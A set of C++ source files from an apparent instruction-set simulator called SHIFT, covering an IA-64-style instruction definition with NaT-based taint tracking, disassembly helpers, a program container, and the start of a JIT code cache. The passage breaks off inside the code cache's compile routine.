        // Label definition: "NAME:" alone on a line.
        if (line.back() == ':' &&
            line.find_first_of(" \t=[],") == std::string::npos) {
            std::string name = line.substr(0, line.size() - 1);
            current->code.push_back(
                makeLabel(labels.intern(name)));
            continue;
        }

        LineLexer lex(line, lineno);
        current->code.push_back(parseInstr(lex, &labels));
    }

    if (program.functions.empty())
        SHIFT_FATAL("assembly contains no functions");
    if (!program.findFunction("main"))
        program.entry = program.functions[0].name;
    return program;
}

} // namespace shift
