#include "instruction.hh"

#include <sstream>

#include "support/logging.hh"

namespace shift
{

bool
isLoad(const Instr &instr)
{
    return instr.op == Opcode::Ld;
}

bool
isStore(const Instr &instr)
{
    return instr.op == Opcode::St;
}

bool
isAlu(const Instr &instr)
{
    switch (instr.op) {
      case Opcode::Add:
      case Opcode::Sub:
      case Opcode::Mul:
      case Opcode::Div:
      case Opcode::Mod:
      case Opcode::DivU:
      case Opcode::ModU:
      case Opcode::And:
      case Opcode::Andcm:
      case Opcode::Or:
      case Opcode::Xor:
      case Opcode::Shl:
      case Opcode::Shr:
      case Opcode::Sar:
      case Opcode::Sxt:
      case Opcode::Zxt:
      case Opcode::Extr:
      case Opcode::Shladd:
      case Opcode::Mov:
      case Opcode::Movi:
        return true;
      default:
        return false;
    }
}

bool
isBranch(const Instr &instr)
{
    switch (instr.op) {
      case Opcode::Br:
      case Opcode::BrCall:
      case Opcode::BrRet:
      case Opcode::BrCalli:
      case Opcode::Chk:
        return true;
      default:
        return false;
    }
}

const char *
opcodeName(Opcode op)
{
    switch (op) {
      case Opcode::Label: return "label";
      case Opcode::Nop: return "nop";
      case Opcode::Add: return "add";
      case Opcode::Sub: return "sub";
      case Opcode::Mul: return "mul";
      case Opcode::Div: return "div";
      case Opcode::Mod: return "mod";
      case Opcode::DivU: return "div.u";
      case Opcode::ModU: return "mod.u";
      case Opcode::And: return "and";
      case Opcode::Andcm: return "andcm";
      case Opcode::Or: return "or";
      case Opcode::Xor: return "xor";
      case Opcode::Shl: return "shl";
      case Opcode::Shr: return "shr.u";
      case Opcode::Sar: return "shr";
      case Opcode::Sxt: return "sxt";
      case Opcode::Zxt: return "zxt";
      case Opcode::Extr: return "extr.u";
      case Opcode::Shladd: return "shladd";
      case Opcode::Mov: return "mov";
      case Opcode::Movi: return "movl";
      case Opcode::Cmp: return "cmp";
      case Opcode::CmpNat: return "cmp.nat";
      case Opcode::Tnat: return "tnat";
      case Opcode::Tbit: return "tbit";
      case Opcode::Ld: return "ld";
      case Opcode::St: return "st";
      case Opcode::Chk: return "chk.s";
      case Opcode::Br: return "br";
      case Opcode::BrCall: return "br.call";
      case Opcode::BrRet: return "br.ret";
      case Opcode::BrCalli: return "br.calli";
      case Opcode::MovToBr: return "mov.tobr";
      case Opcode::MovFromBr: return "mov.frombr";
      case Opcode::MovToUnat: return "mov.tounat";
      case Opcode::MovFromUnat: return "mov.fromunat";
      case Opcode::Setnat: return "setnat";
      case Opcode::Clrnat: return "clrnat";
      case Opcode::Syscall: return "syscall";
      case Opcode::Halt: return "halt";
      case Opcode::FusedTagAddr: return "fused.tagaddr";
      case Opcode::FusedChkByte: return "fused.chk1";
      case Opcode::FusedChkWord: return "fused.chk8";
      case Opcode::FusedClearNat: return "fused.clrnat";
      case Opcode::FusedStUpdByte: return "fused.stupd1";
      case Opcode::FusedStUpdWord: return "fused.stupd8";
      case Opcode::FpEnter: return "fp.enter";
      case Opcode::FpChkProbe: return "fp.chk";
      case Opcode::FpStProbe: return "fp.stupd";
      case Opcode::FpClrProbe: return "fp.clrnat";
    }
    return "???";
}

const char *
cmpRelName(CmpRel rel)
{
    switch (rel) {
      case CmpRel::Eq: return "eq";
      case CmpRel::Ne: return "ne";
      case CmpRel::Lt: return "lt";
      case CmpRel::Le: return "le";
      case CmpRel::Gt: return "gt";
      case CmpRel::Ge: return "ge";
      case CmpRel::LtU: return "ltu";
      case CmpRel::LeU: return "leu";
      case CmpRel::GtU: return "gtu";
      case CmpRel::GeU: return "geu";
    }
    return "??";
}

const char *
provenanceName(Provenance prov)
{
    switch (prov) {
      case Provenance::Original: return "original";
      case Provenance::NatGen: return "natgen";
      case Provenance::TagAddr: return "tagaddr";
      case Provenance::TagMem: return "tagmem";
      case Provenance::TagReg: return "tagreg";
      case Provenance::Relax: return "relax";
      case Provenance::Check: return "check";
      case Provenance::Baseline: return "baseline";
    }
    return "???";
}

const char *
origClassName(OrigClass oc)
{
    switch (oc) {
      case OrigClass::None: return "none";
      case OrigClass::ForLoad: return "load";
      case OrigClass::ForStore: return "store";
      case OrigClass::ForCompare: return "compare";
    }
    return "???";
}

namespace
{

std::string
src2Text(const Instr &instr)
{
    if (instr.useImm) {
        std::ostringstream ss;
        ss << instr.imm;
        return ss.str();
    }
    return "r" + std::to_string(instr.r3);
}

} // namespace

std::string
disassemble(const Instr &instr)
{
    std::ostringstream ss;
    if (instr.qp != 0)
        ss << "(p" << int(instr.qp) << ") ";

    switch (instr.op) {
      case Opcode::Label:
        return "L" + std::to_string(instr.imm) + ":";
      case Opcode::Nop:
        ss << "nop";
        break;
      case Opcode::Mov:
        ss << "mov r" << int(instr.r1) << " = r" << int(instr.r2);
        break;
      case Opcode::Movi:
        ss << "movl r" << int(instr.r1) << " = " << instr.imm;
        break;
      case Opcode::Sxt:
      case Opcode::Zxt:
        ss << opcodeName(instr.op) << int(instr.size) << " r"
           << int(instr.r1) << " = r" << int(instr.r2);
        break;
      case Opcode::Extr:
        ss << "extr.u r" << int(instr.r1) << " = r" << int(instr.r2)
           << ", " << int(instr.pos) << ", " << int(instr.len);
        break;
      case Opcode::Shladd:
        ss << "shladd r" << int(instr.r1) << " = r" << int(instr.r2)
           << ", " << int(instr.pos) << ", " << src2Text(instr);
        break;
      case Opcode::Cmp:
      case Opcode::CmpNat:
        ss << opcodeName(instr.op) << "." << cmpRelName(instr.rel)
           << " p" << int(instr.p1) << ", p" << int(instr.p2)
           << " = r" << int(instr.r2) << ", " << src2Text(instr);
        break;
      case Opcode::Tnat:
        ss << "tnat p" << int(instr.p1) << ", p" << int(instr.p2)
           << " = r" << int(instr.r2);
        break;
      case Opcode::Tbit:
        ss << "tbit p" << int(instr.p1) << ", p" << int(instr.p2)
           << " = r" << int(instr.r2) << ", " << instr.imm;
        break;
      case Opcode::Ld:
        ss << "ld" << int(instr.size);
        if (instr.spec)
            ss << ".s";
        if (instr.fill)
            ss << ".fill";
        ss << " r" << int(instr.r1) << " = [r" << int(instr.r2) << "]";
        break;
      case Opcode::St:
        ss << "st" << int(instr.size);
        if (instr.spill)
            ss << ".spill";
        ss << " [r" << int(instr.r1) << "] = r" << int(instr.r2);
        break;
      case Opcode::Chk:
        ss << "chk.s r" << int(instr.r2) << ", L" << instr.imm;
        break;
      case Opcode::Br:
        ss << "br L" << instr.imm;
        break;
      case Opcode::BrCall:
        ss << "br.call " << instr.callee;
        break;
      case Opcode::BrRet:
        ss << "br.ret";
        break;
      case Opcode::BrCalli:
        ss << "br.calli b" << int(instr.br);
        break;
      case Opcode::MovToBr:
        ss << "mov b" << int(instr.br) << " = r" << int(instr.r2);
        break;
      case Opcode::MovFromBr:
        ss << "mov r" << int(instr.r1) << " = b" << int(instr.br);
        break;
      case Opcode::MovToUnat:
        ss << "mov ar.unat = r" << int(instr.r2);
        break;
      case Opcode::MovFromUnat:
        ss << "mov r" << int(instr.r1) << " = ar.unat";
        break;
      case Opcode::Setnat:
        ss << "setnat r" << int(instr.r1);
        break;
      case Opcode::Clrnat:
        ss << "clrnat r" << int(instr.r1);
        break;
      case Opcode::Syscall:
        ss << "syscall " << instr.imm;
        break;
      case Opcode::Halt:
        ss << "halt";
        break;
      default:
        // Generic three-operand ALU format.
        ss << opcodeName(instr.op) << " r" << int(instr.r1) << " = r"
           << int(instr.r2) << ", " << src2Text(instr);
        break;
    }
    return ss.str();
}

std::string
disassemble(const std::vector<Instr> &code)
{
    std::ostringstream ss;
    for (const Instr &instr : code) {
        if (instr.op != Opcode::Label)
            ss << "    ";
        ss << disassemble(instr) << "\n";
    }
    return ss.str();
}

int
defReg(const Instr &instr)
{
    switch (instr.op) {
      case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
      case Opcode::Div: case Opcode::Mod: case Opcode::DivU:
      case Opcode::ModU: case Opcode::And: case Opcode::Andcm:
      case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
      case Opcode::Shr: case Opcode::Sar: case Opcode::Sxt:
      case Opcode::Zxt: case Opcode::Extr: case Opcode::Shladd:
      case Opcode::Mov: case Opcode::Movi: case Opcode::Ld:
      case Opcode::MovFromBr: case Opcode::MovFromUnat:
      case Opcode::Setnat: case Opcode::Clrnat:
        return instr.r1;
      default:
        return -1;
    }
}

bool
usesReg(const Instr &instr, int r)
{
    bool used = false;
    forEachUse(instr, [&](uint16_t reg) {
        if (reg == r)
            used = true;
    });
    return used;
}

uint64_t
regUseMask(const Instr &instr)
{
    uint64_t mask = 0;
    forEachUse(instr, [&](uint16_t reg) {
        if (reg < kNumGpr)
            mask |= 1ULL << reg;
    });
    return mask;
}

Instr
makeAlu(Opcode op, int dst, int src1, int src2)
{
    Instr instr;
    instr.op = op;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.r2 = static_cast<uint16_t>(src1);
    instr.r3 = static_cast<uint16_t>(src2);
    return instr;
}

Instr
makeAluImm(Opcode op, int dst, int src1, int64_t imm)
{
    Instr instr;
    instr.op = op;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.r2 = static_cast<uint16_t>(src1);
    instr.useImm = true;
    instr.imm = imm;
    return instr;
}

Instr
makeMovi(int dst, int64_t imm)
{
    Instr instr;
    instr.op = Opcode::Movi;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.useImm = true;
    instr.imm = imm;
    return instr;
}

Instr
makeMov(int dst, int src)
{
    Instr instr;
    instr.op = Opcode::Mov;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.r2 = static_cast<uint16_t>(src);
    return instr;
}

Instr
makeCmp(CmpRel rel, int p1, int p2, int src1, int src2)
{
    Instr instr;
    instr.op = Opcode::Cmp;
    instr.rel = rel;
    instr.p1 = static_cast<uint8_t>(p1);
    instr.p2 = static_cast<uint8_t>(p2);
    instr.r2 = static_cast<uint16_t>(src1);
    instr.r3 = static_cast<uint16_t>(src2);
    return instr;
}

Instr
makeCmpImm(CmpRel rel, int p1, int p2, int src1, int64_t imm)
{
    Instr instr;
    instr.op = Opcode::Cmp;
    instr.rel = rel;
    instr.p1 = static_cast<uint8_t>(p1);
    instr.p2 = static_cast<uint8_t>(p2);
    instr.r2 = static_cast<uint16_t>(src1);
    instr.useImm = true;
    instr.imm = imm;
    return instr;
}

Instr
makeExtr(int dst, int src, int pos, int len)
{
    Instr instr;
    instr.op = Opcode::Extr;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.r2 = static_cast<uint16_t>(src);
    instr.pos = static_cast<uint8_t>(pos);
    instr.len = static_cast<uint8_t>(len);
    return instr;
}

Instr
makeShladd(int dst, int src1, int shift, int src2)
{
    Instr instr;
    instr.op = Opcode::Shladd;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.r2 = static_cast<uint16_t>(src1);
    instr.r3 = static_cast<uint16_t>(src2);
    instr.pos = static_cast<uint8_t>(shift);
    return instr;
}

Instr
makeLd(int dst, int addr, int size)
{
    Instr instr;
    instr.op = Opcode::Ld;
    instr.r1 = static_cast<uint16_t>(dst);
    instr.r2 = static_cast<uint16_t>(addr);
    instr.size = static_cast<uint8_t>(size);
    return instr;
}

Instr
makeSt(int addr, int src, int size)
{
    Instr instr;
    instr.op = Opcode::St;
    instr.r1 = static_cast<uint16_t>(addr);
    instr.r2 = static_cast<uint16_t>(src);
    instr.size = static_cast<uint8_t>(size);
    return instr;
}

Instr
makeBr(int label)
{
    Instr instr;
    instr.op = Opcode::Br;
    instr.imm = label;
    return instr;
}

Instr
makeBrCond(int qp, int label)
{
    Instr instr;
    instr.op = Opcode::Br;
    instr.qp = static_cast<uint8_t>(qp);
    instr.imm = label;
    return instr;
}

Instr
makeLabel(int label)
{
    Instr instr;
    instr.op = Opcode::Label;
    instr.imm = label;
    return instr;
}

Instr
makeCall(const std::string &callee)
{
    Instr instr;
    instr.op = Opcode::BrCall;
    instr.callee = callee;
    return instr;
}

} // namespace shift
