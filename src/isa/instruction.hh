/**
 * @file
 * The SHIFT-64 instruction set: an IA-64-inspired 64-bit ISA with full
 * support for control speculation and deferred exceptions.
 *
 * Everything the paper's mechanism depends on is present:
 *  - 64 general registers, each carrying a NaT (Not-a-Thing) deferred
 *    exception token; 16 predicate registers; 8 branch registers; the
 *    UNAT application register.
 *  - Speculative loads (ld.s) that set NaT instead of faulting.
 *  - chk.s recovery branches.
 *  - st8.spill / ld8.fill, which preserve NaT across memory.
 *  - Full predication: every instruction carries a qualifying predicate.
 *  - The paper's proposed three-instruction extension (setnat, clrnat
 *    and a NaT-aware compare), gated by a CPU feature flag.
 *
 * Addressing is register-indirect only (as on Itanium); address
 * arithmetic is explicit, which is what makes the tag-address
 * computation the dominant instrumentation cost (paper figure 9).
 */

#ifndef SHIFT_ISA_INSTRUCTION_HH
#define SHIFT_ISA_INSTRUCTION_HH

#include <cstdint>
#include <string>
#include <vector>

namespace shift
{

/** Number of general, predicate and branch registers. */
constexpr int kNumGpr = 64;
constexpr int kNumPred = 16;
constexpr int kNumBr = 8;

/**
 * Register conventions.
 *
 * r0 is hardwired zero. The compiler and the SHIFT instrumenter share
 * the remaining conventions; in particular the instrumenter owns three
 * registers that the register allocator never hands out, mirroring the
 * paper's reservation of scratch registers in its post-allocation GCC
 * phase and its standing NaT-source register (section 4.4: generating
 * a NaT per use is 3X worse than generating one and keeping it).
 */
namespace reg
{
constexpr int zero = 0;       ///< hardwired zero
constexpr int rv = 8;         ///< return value
constexpr int sp = 12;        ///< stack pointer
constexpr int arg0 = 16;      ///< first of eight argument registers
constexpr int argEnd = 24;    ///< one past the last argument register
constexpr int shiftTmp0 = 27; ///< instrumenter scratch
constexpr int shiftTmp1 = 28; ///< instrumenter scratch
constexpr int shiftTmp2 = 29; ///< instrumenter scratch
constexpr int shiftTmp3 = 30; ///< instrumenter scratch
constexpr int natSrc = 31;    ///< standing NaT-source register (value 0)
} // namespace reg

/** Instruction opcodes. */
enum class Opcode : uint8_t
{
    // Pseudo-ops.
    Label,   ///< label marker; zero cost, resolved at load time
    Nop,

    // ALU. dst = src1 OP src2 (src2 may be an immediate).
    Add, Sub, Mul, Div, Mod, DivU, ModU,
    And, Andcm, Or, Xor,
    Shl, Shr, Sar,
    Sxt,     ///< sign-extend low `size` bytes of src1
    Zxt,     ///< zero-extend low `size` bytes of src1
    Extr,    ///< dst = unsigned bit field of src1 at [pos, pos+len)
    Shladd,  ///< dst = (src1 << pos) + src2 (IA-64 scaled add)
    Mov,     ///< dst = src1
    Movi,    ///< dst = imm (64-bit)

    // Compares write two complementary predicates.
    Cmp,     ///< (p1, p2) = src1 REL src2; NaT operand clears both
    CmpNat,  ///< architectural enhancement: NaT-oblivious compare
    Tnat,    ///< (p1, p2) = (NaT(src1), !NaT(src1))
    Tbit,    ///< (p1, p2) = (bit imm of src1, complement)

    // Memory. Register-indirect addressing only.
    Ld,      ///< dst = [src1]; `size` bytes; `spec` defers faults to NaT;
             ///< `fill` restores NaT from the spill sidecar (ld8.fill)
    St,      ///< [src1] = src2; `spill` permits NaT sources (st8.spill)

    // Speculation check.
    Chk,     ///< if NaT(src1) branch to label

    // Control flow. Branches are conditional through their qualifying
    // predicate, as on IA-64.
    Br,      ///< branch to label
    BrCall,  ///< call `callee` (return link kept by the call stack)
    BrRet,   ///< return
    BrCalli, ///< indirect call through branch register `br`

    // Register moves to and from branch/application registers.
    MovToBr,   ///< br = src1 (NaT source raises a consumption fault: L3)
    MovFromBr, ///< dst = br
    MovToUnat, ///< ar.unat = src1
    MovFromUnat, ///< dst = ar.unat

    // The paper's proposed enhancement instructions (section 6.3).
    Setnat,  ///< set NaT of dst (feature-gated)
    Clrnat,  ///< clear NaT of dst (feature-gated)

    // Environment.
    Syscall, ///< simulated OS call; number in imm, args in r16..r23
    Halt,    ///< stop the machine (normal termination path for _start)

    // Fused taint micro-ops. These never appear in a Program: the
    // predecoder recognizes the instrumenter's canonical emitted
    // idioms and collapses each into one decoded micro-op, so the
    // residual instrumentation costs one dispatch instead of 4-13.
    // The fused handlers replay the constituent instructions exactly
    // (cycles, stalls, stat attribution, fault points), which keeps
    // the predecoded engine bit-identical to the legacy stepper.
    FusedTagAddr,   ///< 4-instr tag-address fold (extr/shl/extr/or)
    FusedChkByte,   ///< 9-instr byte-granularity bitmap check
    FusedChkWord,   ///< 4-instr word-granularity bitmap check
    FusedClearNat,  ///< 3-instr spill/reload NaT purge
    FusedStUpdByte, ///< 13-instr byte-granularity bitmap RMW update
    FusedStUpdWord, ///< 7-instr word-granularity bitmap RMW update

    // Fast-path micro-ops. These appear only in the dual-version fast
    // block streams (see docs/FAST-PATH.md): each probe guards one
    // elided check/update/purge against the hierarchical taint
    // summary and deopts to the instrumented stream — at the elided
    // group's own slow-stream pc, so no work is replayed — when the
    // guard cannot prove the elision invisible. Probes charge zero
    // simulated cycles: on the clean path the elided work never
    // happens architecturally, and on deopt the slow stream charges
    // it exactly once.
    FpEnter,    ///< fast-block entry: hit counting + cold-block bail
    FpChkProbe, ///< guards an elided bitmap check (byte or word)
    FpStProbe,  ///< guards an elided bitmap RMW update
    FpClrProbe, ///< guards an elided spill/reload NaT purge
};

/** One past the last opcode, for dispatch tables indexed by Opcode. */
constexpr size_t kNumOpcodes = static_cast<size_t>(Opcode::FpClrProbe) + 1;

/** First fused micro-op; fused ops appear only in decoded streams. */
constexpr size_t kFirstFusedOpcode = static_cast<size_t>(Opcode::FusedTagAddr);

/** Comparison relations for Cmp/CmpNat. */
enum class CmpRel : uint8_t
{
    Eq, Ne, Lt, Le, Gt, Ge, LtU, LeU, GtU, GeU,
};

/**
 * Provenance of an instruction: who emitted it and why. The CPU
 * accumulates cycles per provenance class, which is how the overhead
 * breakdown of paper figure 9 and the enhancement deltas of figure 8
 * are measured.
 */
enum class Provenance : uint8_t
{
    Original,   ///< compiled from user code
    NatGen,     ///< artificial NaT-source generation (paper fig. 5 top)
    TagAddr,    ///< tag-address computation (virtual -> tag space)
    TagMem,     ///< bitmap load/store
    TagReg,     ///< register taint set/clear/test glue
    Relax,      ///< NaT-sensitive instruction relaxation (cmp spill/fill)
    Check,      ///< inserted chk.s / policy checks
    Baseline,   ///< software-DIFT baseline propagation code
};

/** Which original instruction class an instrumented op was emitted for. */
enum class OrigClass : uint8_t
{
    None, ForLoad, ForStore, ForCompare,
};

/** Enumerator counts, for accounting tables indexed by the above. */
constexpr int kNumProvenance = 8;
constexpr int kNumOrigClass = 4;

/**
 * Flat index into a [kNumProvenance][kNumOrigClass] accounting table.
 * Precomputed per instruction by the predecoder so the interpreter's
 * per-instruction cycle attribution is one indexed add.
 */
constexpr unsigned
statIndex(Provenance prov, OrigClass cls)
{
    return static_cast<unsigned>(prov) * kNumOrigClass +
           static_cast<unsigned>(cls);
}

/**
 * One decoded instruction. A plain aggregate: passes build and rewrite
 * vectors of these.
 */
struct Instr
{
    Opcode op = Opcode::Nop;
    uint8_t qp = 0;          ///< qualifying predicate (p0 = always true)

    // Register fields are 16 bits wide: values below kNumGpr name
    // physical registers; the compiler uses values >= kNumGpr as
    // virtual registers until allocation.
    uint16_t r1 = 0;         ///< destination GR
    uint16_t r2 = 0;         ///< source GR 1
    uint16_t r3 = 0;         ///< source GR 2 (when !useImm)
    bool useImm = false;     ///< source 2 is `imm`
    int64_t imm = 0;         ///< immediate / label id / syscall number

    uint8_t p1 = 0;          ///< predicate destination 1
    uint8_t p2 = 0;          ///< predicate destination 2
    uint8_t br = 0;          ///< branch register operand

    CmpRel rel = CmpRel::Eq; ///< relation for Cmp/CmpNat
    uint8_t size = 8;        ///< access size for Ld/St/Sxt/Zxt
    uint8_t pos = 0;         ///< bit position for Extr / shift for Shladd
    uint8_t len = 0;         ///< bit length for Extr
    bool spec = false;       ///< speculative load (ld.s)
    bool fill = false;       ///< ld8.fill
    bool spill = false;      ///< st8.spill

    std::string callee;      ///< BrCall target function name

    Provenance prov = Provenance::Original;
    OrigClass origClass = OrigClass::None;
};

/** True for opcodes that read memory. */
bool isLoad(const Instr &instr);
/** True for opcodes that write memory. */
bool isStore(const Instr &instr);
/** True for plain two-source ALU computations. */
bool isAlu(const Instr &instr);
/** True when the instruction can change control flow. */
bool isBranch(const Instr &instr);

/** Short mnemonic for an opcode ("add", "ld", ...). */
const char *opcodeName(Opcode op);
/** Mnemonic suffix for a compare relation ("eq", "ltu", ...). */
const char *cmpRelName(CmpRel rel);
/** Human-readable name for a provenance class. */
const char *provenanceName(Provenance prov);
/** Human-readable name for an original-instruction class. */
const char *origClassName(OrigClass oc);

/** Disassemble one instruction into IA-64-flavoured text. */
std::string disassemble(const Instr &instr);

/** Disassemble a code sequence, one instruction per line. */
std::string disassemble(const std::vector<Instr> &code);

/** The general register the instruction writes, or -1. */
int defReg(const Instr &instr);

/** Call fn(regField&) for every GR the instruction reads. */
template <typename F>
void
forEachUse(Instr &instr, F fn)
{
    switch (instr.op) {
      case Opcode::St:
        fn(instr.r1); // address
        fn(instr.r2); // value
        return;
      case Opcode::Setnat:
      case Opcode::Clrnat:
        fn(instr.r1); // read-modify-write of the NaT bit
        return;
      case Opcode::Movi:
      case Opcode::MovFromBr:
      case Opcode::MovFromUnat:
      case Opcode::Label:
      case Opcode::Nop:
      case Opcode::Br:
      case Opcode::BrCall:
      case Opcode::BrRet:
      case Opcode::BrCalli:
      case Opcode::Syscall:
      case Opcode::Halt:
        return;
      default:
        break;
    }
    // Generic: r2 is a source; r3 is a source unless an immediate is
    // used. Covers ALU ops, compares, tnat/tbit, loads, chk.s,
    // mov-to-br/unat.
    fn(instr.r2);
    if (!instr.useImm) {
        switch (instr.op) {
          case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
          case Opcode::Div: case Opcode::Mod: case Opcode::DivU:
          case Opcode::ModU: case Opcode::And: case Opcode::Andcm:
          case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
          case Opcode::Shr: case Opcode::Sar: case Opcode::Shladd:
          case Opcode::Cmp: case Opcode::CmpNat:
            fn(instr.r3);
            break;
          default:
            break;
        }
    }
}

/** Const overload: fn receives register numbers by value. */
template <typename F>
void
forEachUse(const Instr &instr, F fn)
{
    forEachUse(const_cast<Instr &>(instr),
               [&](uint16_t &r) { fn(static_cast<uint16_t>(r)); });
}

/** True when the instruction reads register r. */
bool usesReg(const Instr &instr, int r);

/**
 * Bitmask of the physical GRs the instruction reads (bit r set when
 * usesReg(instr, r) for r < kNumGpr). Virtual registers (>= kNumGpr)
 * are not representable and must be allocated away first; the
 * predecoder precomputes this so the interpreter's load-use stall
 * check is a single bit test.
 */
uint64_t regUseMask(const Instr &instr);

// ---------------------------------------------------------------------
// Construction helpers. Instrumentation passes and the code generator
// build instructions through these, which keeps call sites short and
// uniform.
// ---------------------------------------------------------------------

/** dst = src1 OP src2. */
Instr makeAlu(Opcode op, int dst, int src1, int src2);
/** dst = src1 OP imm. */
Instr makeAluImm(Opcode op, int dst, int src1, int64_t imm);
/** dst = imm. */
Instr makeMovi(int dst, int64_t imm);
/** dst = src. */
Instr makeMov(int dst, int src);
/** (p1, p2) = src1 REL src2. */
Instr makeCmp(CmpRel rel, int p1, int p2, int src1, int src2);
/** (p1, p2) = src1 REL imm. */
Instr makeCmpImm(CmpRel rel, int p1, int p2, int src1, int64_t imm);
/** dst = bits [pos, pos+len) of src, zero-extended. */
Instr makeExtr(int dst, int src, int pos, int len);
/** dst = (src1 << shift) + src2. */
Instr makeShladd(int dst, int src1, int shift, int src2);
/** dst = [addr], `size` bytes. */
Instr makeLd(int dst, int addr, int size = 8);
/** [addr] = src, `size` bytes. */
Instr makeSt(int addr, int src, int size = 8);
/** Unconditional branch to a label. */
Instr makeBr(int label);
/** Conditional branch: (qp) br label. */
Instr makeBrCond(int qp, int label);
/** Label marker. */
Instr makeLabel(int label);
/** Call a function by name. */
Instr makeCall(const std::string &callee);

} // namespace shift

#endif // SHIFT_ISA_INSTRUCTION_HH
