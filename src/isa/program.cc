#include "program.hh"

namespace shift
{

std::optional<int>
Program::findFunction(const std::string &name) const
{
    for (size_t i = 0; i < functions.size(); ++i) {
        if (functions[i].name == name)
            return static_cast<int>(i);
    }
    return std::nullopt;
}

int
Program::addFunction(Function fn)
{
    functions.push_back(std::move(fn));
    return static_cast<int>(functions.size() - 1);
}

uint64_t
Program::staticInstrCount(const Function &fn)
{
    uint64_t n = 0;
    for (const Instr &instr : fn.code) {
        if (instr.op != Opcode::Label)
            ++n;
    }
    return n;
}

uint64_t
Program::staticInstrCount() const
{
    uint64_t n = 0;
    for (const Function &fn : functions)
        n += staticInstrCount(fn);
    return n;
}

GlobalLayout
computeGlobalLayout(const Program &program)
{
    GlobalLayout layout;
    uint64_t cursor = kGlobalBase;
    for (const GlobalDef &g : program.globals) {
        layout.addr[g.name] = cursor;
        uint64_t size = g.size ? g.size : 1;
        cursor += (size + 15) & ~15ULL;
    }
    layout.end = cursor;
    return layout;
}

std::optional<int>
funcIndexForDesc(uint64_t addr, size_t numFunctions)
{
    if (addr < kFuncDescBase)
        return std::nullopt;
    uint64_t off = addr - kFuncDescBase;
    if (off % kFuncDescStride != 0)
        return std::nullopt;
    uint64_t index = off / kFuncDescStride;
    if (index >= numFunctions)
        return std::nullopt;
    return static_cast<int>(index);
}

} // namespace shift
