/**
 * @file
 * Executable program container: functions, globals, entry point.
 *
 * A Program is the unit that flows through the whole pipeline:
 * MiniC compiler -> (SHIFT or baseline instrumentation pass) -> Machine.
 * Code lives outside simulated memory (Harvard-style); functions are
 * addressable through small "function descriptor" addresses in region 1
 * so indirect calls through tainted pointers still hit the hardware
 * NaT-consumption fault (policy L3).
 */

#ifndef SHIFT_ISA_PROGRAM_HH
#define SHIFT_ISA_PROGRAM_HH

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "isa/instruction.hh"
#include "mem/address_space.hh"

namespace shift
{

/** One compiled function. */
struct Function
{
    std::string name;
    std::vector<Instr> code;
    int nextLabel = 0;       ///< label id allocator (instrumentation
                             ///< passes take fresh labels from here)

    /** Allocate a fresh label id. */
    int newLabel() { return nextLabel++; }
};

/** A global variable definition. */
struct GlobalDef
{
    std::string name;
    uint64_t size = 8;             ///< bytes
    std::vector<uint8_t> init;     ///< initial bytes (zero-padded)
    std::string initSymbol;        ///< when set, the linker writes that
                                   ///< symbol's address into init
};

/** A whole program. */
struct Program
{
    std::vector<Function> functions;
    std::vector<GlobalDef> globals;
    std::string entry = "main";

    /** Find a function index by name. */
    std::optional<int> findFunction(const std::string &name) const;

    /** Add a function; returns its index. */
    int addFunction(Function fn);

    /** Total static instruction count (Label pseudo-ops excluded). */
    uint64_t staticInstrCount() const;

    /** Static instruction count of one function. */
    static uint64_t staticInstrCount(const Function &fn);
};

/**
 * Function-descriptor addressing: function i gets the region-1 address
 * base + i * 16 so code can take and pass function pointers.
 */
constexpr uint64_t kFuncDescBase = (1ULL << 61) + 0x1000;
constexpr uint64_t kFuncDescStride = 16;

/** Address of function i's descriptor. */
constexpr uint64_t
funcDescAddr(int index)
{
    return kFuncDescBase + kFuncDescStride * static_cast<uint64_t>(index);
}

/** Inverse of funcDescAddr; nullopt when addr is not a descriptor. */
std::optional<int> funcIndexForDesc(uint64_t addr, size_t numFunctions);

/** Base address of the globals area in the data region. */
constexpr uint64_t kGlobalBase = regionBase(kDataRegion) + 0x10000;

/** Deterministic layout of a program's globals. */
struct GlobalLayout
{
    std::map<std::string, uint64_t> addr;
    uint64_t end = kGlobalBase; ///< first byte past the last global
};

/**
 * Compute the address of every global: contiguous from kGlobalBase in
 * definition order, 16-byte aligned. Both the linker (to resolve
 * symbolic operands) and the machine loader (to map and initialize the
 * data region) use this single definition.
 */
GlobalLayout computeGlobalLayout(const Program &program);

} // namespace shift

#endif // SHIFT_ISA_PROGRAM_HH
