/**
 * @file
 * The executable code cache: hotness counting, promotion, and the
 * lifecycle of compiled buffers (see docs/JIT.md).
 */

#include "jit/jit.hh"

#include "support/logging.hh"

#if SHIFT_JIT_BACKEND
#include <sys/mman.h>
#endif

namespace shift::jit
{

bool
available()
{
    return SHIFT_JIT_BACKEND != 0;
}

const CompiledFunction CodeCache::kUncompilable;

CompiledFunction::~CompiledFunction()
{
#if SHIFT_JIT_BACKEND
    if (buf)
        munmap(buf, size);
#endif
}

CodeCache::CodeCache(std::shared_ptr<const DecodedProgram> program,
                     CompileEnv env, uint32_t threshold,
                     size_t maxBytes)
    : program_(std::move(program)),
      env_(env),
      threshold_(threshold ? threshold : kDefaultThreshold),
      maxBytes_(maxBytes ? maxBytes : kDefaultMaxBytes),
      hot_(program_->functions.size()),
      fns_(program_->functions.size())
{
    SHIFT_ASSERT(program_, "code cache needs a program");
}

const CompiledFunction *
CodeCache::hot(int func, Credit *credit)
{
    const CompiledFunction *f =
        fns_[func].load(std::memory_order_acquire);
    if (f)
        return f == &kUncompilable ? nullptr : f;
    // Exactly one caller observes the crossing and compiles; racers
    // keep interpreting until the body is published. The counter
    // keeps counting past the threshold, which is harmless.
    uint32_t h =
        hot_[func].fetch_add(1, std::memory_order_relaxed) + 1;
    if (h != threshold_)
        return nullptr;
    std::lock_guard<std::mutex> lock(compileMutex_);
    f = fns_[func].load(std::memory_order_acquire);
    if (f)
        return f == &kUncompilable ? nullptr : f;
    std::unique_ptr<CompiledFunction> compiled =
        compileFunction(program_->functions[func], env_);
    if (!compiled) {
        fns_[func].store(&kUncompilable, std::memory_order_release);
